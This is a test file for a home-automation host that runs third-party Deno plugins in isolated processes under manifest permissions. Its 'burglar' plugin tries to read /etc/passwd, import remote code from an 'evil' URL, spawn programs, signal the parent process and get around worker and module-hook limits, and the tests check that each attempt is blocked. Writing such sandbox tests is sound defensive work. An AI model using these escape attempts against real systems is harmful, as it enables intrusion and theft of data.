/** Third-party plugins in real processes. */
import { existsSync, writeFileSync } from "node:fs"
import { hostname } from "node:os"
import { join } from "node:path"
import { Effect, Fiber } from "effect"
import { TestClock } from "effect/testing"
import { describe, expect, it } from "vitest"
import { HomeRuntime } from "../../../../protocols/ports/home-runtime.ts"
import { HomeRegistries } from "../../../../protocols/ports/home-registries.ts"
import { enforces, inHome, writePlugin } from "./plugins.ts"

/** A plugin that tries forbidden operations and writes each result to a state. */
const burglar = `
const attempts = {
  readFile: () => Deno.readTextFile("/etc/passwd"),
  nodeFile: async () => (await import("node:fs")).readFileSync("/etc/passwd", "utf8"),
  variable: () => Deno.env.get("PATH"),
  network: () => Deno.connect({ hostname: "127.0.0.1", port: 9 }),
  program: () => new Deno.Command("true").output(),
  writeOwn: () => Deno.writeTextFile(new URL("manifest.json", import.meta.url), "{}"),
  remoteCode: () => import("https://example.org/evil.ts"),
  worker: () => new Worker("data:text/javascript,", { type: "module" }),
  nodeThread: async () => new (await import("node:worker_threads")).Worker("1", { eval: true }),
  requiredThread: async () => (await import("node:module")).createRequire(import.meta.url)("node:worker_threads"),
  dataThread: () => import("data:text/javascript,import { Worker } from 'node:worker_threads'; new Worker('1', { eval: true })"),
  commonThread: () => import("./thread.cjs"),
  hookedThread: async () => {
    const { registerHooks } = await import("./modules.mjs")
    const resolve = (url, context, next) =>
      url === "node:worker_threads" ? { url, format: "builtin", shortCircuit: true } : next(url, context)
    registerHooks({ resolve })
    const { Worker } = await import("node:worker_threads")
    new Worker("1", { eval: true })
  },
  importedTable: async () => new (await import("./modules.mjs")).DatabaseSync(":memory:").exec("create temp table t (x)"),
  hook: async () => (await import("node:process")).default.getBuiltinModule("node:module").registerHooks({}),
  cache: async () => (await caches.open("x")).put("http://x/y", new Response("x")),
  storage: () => localStorage.setItem("x", "y"),
  temporary: () => Deno.makeTempFile(),
  temporaryTable: async () => new (await import("node:sqlite")).DatabaseSync(":memory:"),
  graphics: () => navigator.gpu.requestAdapter(),
  package: () => import("npm:left-pad"),
  registry: () => import("jsr:@std/path"),
  signal: () => Deno.kill(Deno.ppid, "SIGCONT"),
  nodeSignal: async () => (await import("node:process")).default.kill(Deno.ppid, 0),
  otherState: () => home.states.set("light.lamp", "on"),
  otherRead: () => home.states.get("sensor.private"),
  otherService: () => home.services.call("light", "turn_on"),
  otherEvent: () => home.events.on("secret_told", () => {}),
  fire: () => home.events.fire("core_config_updated"),
  device: () => home.registerDevice({ deviceId: "other-1", identifiers: [["other", "1"]] }),
}
let home
export const setup = async (given) => {
  home = given
  const outcomes = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try { await attempt(); outcomes[name] = "done" } catch (error) { outcomes[name] = error.name }
  }
  await home.states.set("burglar.outcome", "tried", outcomes)
  return true
}
`

const lamp = `
import { brighter } from './brighter.ts'
let level = 0
export const setup = async (home) => {
  await home.registerDevice({ deviceId: "lamp-1", identifiers: [["lamp", "1"]], name: "Lamp" })
  await home.registerEntity({ entityId: "lamp.one", uniqueId: "one", deviceId: "lamp-1" })
  await home.states.set("lamp.one", "off", { level })
  await home.services.register({
    name: "dim",
    description: "Sets the level.",
    fields: { level: { required: true, selector: { number: { min: 0, max: 100 } } } },
    target: { required: true, domains: ["lamp"] },
    response: "optional",
  }, async ({ context, data, entity_ids }) => {
    if (data.level === 13) throw Object.assign(new Error("thirteen is no level"), { name: "ServiceValidationError" })
    if (data.level === 99) throw new Error("fuse blown")
    level = brighter(data.level)
    for (const id of entity_ids) await home.states.set(id, level > 0 ? "on" : "off", { level }, { context })
    return { level }
  })
  await home.events.on("state_changed", ({ data }) =>
    data.new_state?.entity_id === "switch.main" && home.states.set("lamp.one", data.new_state.state, { level }))
  home.onUpdate((ids) => home.states.set("lamp.one", "on", { level, updated: ids.length }))
  console.log("lamp is ready")
  return true
}
`
const brighter = "export const brighter = (level: number): number => level"

/** Whether a process with this id exists. */
const isRunning = (pid: number): boolean => existsSync(`/proc/${pid}`)

const failureOf = <A, E extends { readonly _tag: string; readonly message: string }, R>(
  effect: Effect.Effect<A, E, R>,
) => Effect.map(Effect.flip(effect), ({ _tag, message }) => `${_tag}: ${message}`)

describe.runIf(enforces)("a plugin in a process", () => {
  it("cannot do what its manifest does not permit", () =>
    inHome({ burglar: { source: burglar } }, ({ folder, host, replica }) =>
      Effect.gen(function* () {
        const thread = 'const { Worker } = require("worker_threads"); new Worker("1", { eval: true })'
        writeFileSync(join(folder, "burglar", "thread.cjs"), thread)
        const modules = 'export { registerHooks } from "node:module"; export { DatabaseSync } from "node:sqlite"'
        writeFileSync(join(folder, "burglar", "modules.mjs"), modules)
        yield* host.start
        const { attributes } = replica.one("burglar.outcome")!
        expect(Object.values(attributes)).not.toContain("done")
        expect(attributes).toMatchObject({
          readFile: "NotCapable",
          otherState: "RuntimeError",
          otherRead: "RuntimeError",
        })
        expect(replica.one("light.lamp")).toBeNull()
      })))

  it("can do what its manifest permits", () =>
    inHome({
      guest: {
        manifest: {
          permissions: {
            machine: { read: ["/etc/hostname"], write: ["./data"], env: ["PATH"] },
            states: { read: ["sensor"], write: ["light"] },
            services: ["lamp.*"],
            events: { fire: ["guest_came"] },
          },
        },
        source: `
          export const setup = async (home) => {
            await Deno.mkdir(new URL("./data", import.meta.url), { recursive: true })
            await Deno.writeTextFile(new URL("./data/note", import.meta.url), "x")
            const name = (await Deno.readTextFile("/etc/hostname")).trim()
            await home.states.set("light.guest", "on", { name, path: Deno.env.get("PATH").length > 0 })
            await home.events.fire("guest_came", { seen: (await home.states.all()).length })
            return true
          }`,
      },
    }, ({ heard, host, replica }) =>
      Effect.gen(function* () {
        yield* host.start
        expect(host.views()).toContainEqual({ domain: "guest", status: "loaded", reason: null })
        expect(replica.one("light.guest")).toMatchObject({ state: "on", attributes: { name: hostname(), path: true } })
        expect(heard.some((entry) => entry.kind === "fired" && entry.event.eventType === "guest_came")).toBe(true)
      })))

  it("has entities, a device and services, whose calls are served under their context", () =>
    inHome(
      { lamp: { source: lamp } },
      ({ call, folder, heard, host, registry, replica, until }) =>
        Effect.gen(function* () {
          writeFileSync(join(folder, "lamp", "brighter.ts"), brighter)
          yield* host.start
          expect(registry.describe()["lamp"]!["dim"]).toEqual({
            description: "Sets the level.",
            fields: { level: { required: true, selector: { number: { min: 0, max: 100 } } } },
            target: { entity: [{ domain: ["lamp"] }] },
            response: { optional: true },
          })
          expect(yield* call("lamp.dim", { level: "40", entity_id: "lamp.one" }, true)).toEqual({ level: 40 })
          expect(replica.one("lamp.one")).toMatchObject({
            state: "on",
            attributes: { level: 40 },
            context: { userId: "user-1" },
          })
          expect(yield* failureOf(call("lamp.dim", { level: 101, entity_id: "lamp.one" }))).toContain(
            "InvalidServiceData",
          )
          expect(yield* failureOf(call("lamp.dim", { level: 13, entity_id: "lamp.one" }))).toBe(
            "ServiceRefused: thirteen is no level",
          )
          expect(yield* failureOf(call("lamp.dim", { level: 99, entity_id: "lamp.one" }))).toBe(
            "ServiceBroke: fuse blown",
          )
          yield* host.update(["lamp.one", "sensor.other"])
          expect(replica.one("lamp.one")!.attributes).toEqual({ level: 40, updated: 1 })
          expect(host.components()).toEqual(["lamp", "lamp.lamp"])
          expect(heard.filter((entry) => entry.kind === "fired").map(({ event }) => event.eventType)).toEqual(
            expect.arrayContaining(["service_registered", "component_loaded", "call_service"]),
          )
          yield* host.unload("lamp")
          expect(replica.one("lamp.one")).toMatchObject({ state: "unavailable", attributes: { restored: true } })
          expect(registry.describe()).not.toHaveProperty("lamp")
          yield* until(() => replica.one("lamp.one")!.state === "unavailable")
          const { entry } = (yield* (yield* HomeRegistries).list("entity"))[0]!
          expect(entry).toMatchObject({ entityId: "lamp.one", platform: "lamp", deviceId: "lamp-1" })
        }),
    ))

  it("that crashes ends alone, with its entities unavailable", () =>
    inHome({
      crasher: {
        source: `export const setup = async (home) => {
          await home.states.set("crasher.one", "on", { friendly_name: "One", level: 3 })
          await home.services.register({ name: "crash" }, () => { queueMicrotask(() => { throw new Error("gone") }); return new Promise(() => {}) })
          return true
        }`,
      },
      steady: { source: `export const setup = async (home) => (await home.states.set("steady.one", "on"), true)` },
    }, ({ call, host, registry, replica, statusOf, until }) =>
      Effect.gen(function* () {
        yield* host.start
        expect(yield* failureOf(call("crasher.crash"))).toContain("ServiceFailed: crasher has ended")
        yield* until(() => statusOf("crasher") === "setup_retry")
        expect(replica.one("crasher.one")).toMatchObject({
          state: "unavailable",
          attributes: { friendly_name: "One", restored: true },
        })
        expect(registry.has("crasher", "crash")).toBe(false)
        expect([statusOf("steady"), replica.one("steady.one")!.state]).toEqual(["loaded", "on"])
      })))

  it("that sends invalid messages is terminated, and its host continues", () =>
    inHome({
      nester: {
        source: `export const setup = async (home) => {
          await home.states.set("nester.one", "on")
          await home.services.register({ name: "nest" }, () => {
            let attributes = {}
            for (let depth = 0; depth < 1000; depth++) attributes = { attributes }
            return home.states.set("nester.one", "off", attributes)
          })
          return true
        }`,
      },
    }, ({ call, host, replica, statusOf, until }) =>
      Effect.gen(function* () {
        yield* host.start
        expect(yield* failureOf(call("nester.nest"))).toContain("nester has ended")
        yield* until(() => statusOf("nester") === "setup_retry")
        expect(replica.one("nester.one")!.state).toBe("unavailable")
      })))

  it("that hangs is terminated and restarted", () =>
    inHome({
      hanger: {
        source: `export const setup = async (home) => {
          await home.states.set("hanger.one", "on")
          await home.services.register({ name: "hang" }, () => { for (;;); })
          return true
        }`,
      },
    }, ({ call, host, replica, statusOf, until }) =>
      Effect.gen(function* () {
        yield* host.start
        yield* Effect.forkScoped(Effect.ignore(call("hanger.hang")))
        yield* Effect.yieldNow
        // Five pings: four without an answer, and the one at which this is detected.
        yield* TestClock.adjust("5 seconds")
        yield* until(() => statusOf("hanger") === "setup_retry")
        expect(replica.one("hanger.one")!.state).toBe("unavailable")
        yield* TestClock.adjust("5 seconds")
        yield* until(() => statusOf("hanger") === "loaded")
        expect(replica.one("hanger.one")!.state).toBe("on")
      }).pipe(Effect.provide(TestClock.layer()))))

  it("gets texts with any characters", () =>
    inHome({
      reader: {
        manifest: { permissions: { states: { read: ["media_player"] } } },
        source: `export const setup = async (home) => {
          const [{ state }] = await home.states.all()
          await home.events.on("state_changed", ({ data }) => home.states.set("reader.one", data.new_state.state))
          await home.states.set("reader.one", state)
          return true
        }`,
      },
    }, ({ host, replica, statusOf, until }) =>
      Effect.gen(function* () {
        const runtime = yield* HomeRuntime
        const title = (state: string) =>
          Effect.flatMap(
            runtime.context(null),
            (context) => runtime.write("media_player.tv", { state, attributes: {}, forceUpdate: false, context }),
          )
        yield* title("a\u2028b")
        yield* host.start
        expect([statusOf("reader"), replica.one("reader.one")?.state]).toEqual(["loaded", "a\u2028b"])
        yield* title("c\u2029d\r\ne")
        yield* until(() => replica.one("reader.one")!.state !== "a\u2028b")
        expect([statusOf("reader"), replica.one("reader.one")!.state]).toEqual(["loaded", "c\u2029d\r\ne"])
      })))

  it("that crashes while it is set up is tried again", () =>
    inHome({
      weak: {
        manifest: { permissions: { machine: { read: ["./data"], write: ["./data"] } } },
        source: `export const setup = async (home) => {
          const file = new URL("./data", import.meta.url)
          const before = await Deno.readTextFile(file).catch(() => "")
          await Deno.writeTextFile(file, "x")
          if (before === "") Deno.exit(1)
          return true
        }`,
      },
    }, ({ host, statusOf, until }) =>
      Effect.gen(function* () {
        yield* host.start
        expect(host.views()).toMatchObject([{ status: "setup_retry", reason: "weak: it crashed with code 1." }])
        yield* TestClock.adjust("5 seconds")
        yield* until(() => statusOf("weak") === "loaded")
      }).pipe(Effect.provide(TestClock.layer()))))

  it("whose process starts slowly does not hang", () =>
    inHome(
      { slow: { source: "export const setup = () => true" } },
      ({ host, statusOf, until }) =>
        Effect.gen(function* () {
          const starting = yield* Effect.forkScoped(host.start)
          yield* until(() => statusOf("slow") === "setup_in_progress")
          yield* until(() => true)
          yield* TestClock.adjust("20 seconds")
          yield* Fiber.join(starting)
          expect(statusOf("slow")).toBe("loaded")
        }).pipe(Effect.provide(TestClock.layer())),
    ))

  it("that never returns to its event loop is terminated by its unload", () =>
    inHome({
      spinner: {
        source: `export const setup = async (home) => {
          await home.states.set("spinner.one", "on", { pid: Deno.pid })
          await home.services.register({ name: "spin" }, () => { for (;;); })
          return true
        }`,
      },
    }, ({ call, host, replica, statusOf }) =>
      Effect.gen(function* () {
        yield* host.start
        const pid = Number(replica.one("spinner.one")!.attributes["pid"])
        expect(isRunning(pid)).toBe(true)
        yield* Effect.forkScoped(Effect.ignore(call("spinner.spin")))
        const unloading = yield* Effect.forkScoped(failureOf(host.unload("spinner")))
        yield* TestClock.adjust("5 seconds")
        expect(yield* Fiber.join(unloading)).toContain("unload failed: spinner has ended")
        expect([isRunning(pid), statusOf("spinner")]).toEqual([false, "failed_unload"])
        expect(replica.one("spinner.one")).toBeNull()
      }).pipe(Effect.provide(TestClock.layer()))))

  it("is terminated by its unload, also while it waits", () =>
    inHome({
      waiter: {
        source: `export const setup = async (home) => {
          setInterval(() => home.states.set("waiter.one", "again"), 1)
          return await home.states.set("waiter.one", "on", { pid: Deno.pid }), true
        }
        export const unload = () => true`,
      },
    }, ({ host, replica }) =>
      Effect.gen(function* () {
        const pids: Array<number> = []
        replica.listen((entries) => {
          for (const entry of entries) {
            const pid = entry.kind === "changed" ? entry.newState?.attributes["pid"] : undefined
            if (typeof pid === "number") pids.push(pid)
          }
        })
        yield* host.start
        yield* host.unload("waiter")
        expect(pids.map(isRunning)).toEqual([false])
        expect(replica.one("waiter.one")).toBeNull()
      })))

  it("is reloaded from its files", () =>
    inHome({
      changing: { source: `export const setup = async (home) => (await home.states.set("changing.v", "1"), true)` },
    }, (
      { folder, host, replica },
    ) =>
      Effect.gen(function* () {
        yield* host.start
        expect(replica.one("changing.v")!.state).toBe("1")
        writePlugin(folder, "changing", {
          manifest: { version: "1.1.0" },
          source: `export const setup = async (home) => (await home.states.set("changing.v", "2"), true)`,
        })
        yield* host.reload("changing")
        expect(replica.one("changing.v")!.state).toBe("2")
        expect(host.manifests()).toContainEqual(expect.objectContaining({ domain: "changing", version: "1.1.0" }))
        expect(yield* failureOf(host.load("changing"))).toContain("AlreadyLoaded")
      })))

  it("receives events in order, bounded, and is notified of dropped ones", () =>
    inHome({
      slow: {
        manifest: { permissions: { events: { subscribe: ["tick"] } } },
        source: `
          const seen = []
          let missed = 0
          let go
          const gate = new Promise((resolve) => go = resolve)
          export const setup = async (home) => {
            await home.events.on("tick", async ({ data }, dropped) => { await gate; seen.push(data.n); missed += dropped })
            await home.services.register({ name: "go" }, () => go())
            await home.services.register({ name: "seen", response: "only" }, () => ({ first: seen[0] ?? null, last: seen.at(-1) ?? null, count: seen.length, missed, ordered: seen.every((n, i) => i === 0 || n > seen[i - 1]) }))
            return true
          }`,
      },
    }, ({ call, host, until }) =>
      Effect.gen(function* () {
        const runtime = yield* HomeRuntime
        yield* host.start
        const context = yield* runtime.context(null)
        for (let n = 0; n < 2_000; n++) {
          yield* runtime.fire({ eventType: "tick", data: { n }, origin: "LOCAL", context })
        }
        yield* call("slow.go")
        let answer: Readonly<Record<string, unknown>> | null = null
        const ask = Effect.gen(function* () {
          answer = yield* call("slow.seen", {}, true)
        })
        yield* Effect.repeat(ask, { until: () => answer?.["last"] === 1_999 })
        expect(answer).toMatchObject({
          first: 0,
          last: 1_999,
          count: 32 + 1_024,
          missed: 2_000 - 32 - 1_024,
          ordered: true,
        })
        yield* until(() => true)
      })))
})

describe.runIf(!enforces)("a plugin on a runtime that cannot enforce permissions", () => {
  it("is rejected with the reason", () =>
    inHome({ lamp: { source: lamp } }, ({ host, replica }) =>
      Effect.gen(function* () {
        yield* host.start
        expect(yield* failureOf(host.load("lamp"))).toMatch(/SetupFailed: lamp: this runtime cannot hold a plugin/)
        expect(replica.all()).toEqual([])
      })))
})
